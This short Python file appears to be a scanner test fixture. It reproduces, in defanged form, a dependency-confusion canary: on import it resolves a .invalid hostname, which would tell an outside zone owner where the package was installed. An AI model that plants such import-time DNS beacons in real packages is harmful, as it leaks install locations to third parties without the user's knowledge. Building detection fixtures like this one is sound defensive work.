# Defanged replica of the dependency-confusion canaries (gclient_eval,
# package_resources): importing the package resolves a fixed name that
# carries the package's own name, so the owner of the zone learns where it
# was installed. The zone is .invalid.
import socket


def _check_dns():
    try:
        socket.gethostbyname("dnscanary_pkg.oob.example.invalid")  # expect: HS118 high
    except OSError:
        pass


_check_dns()
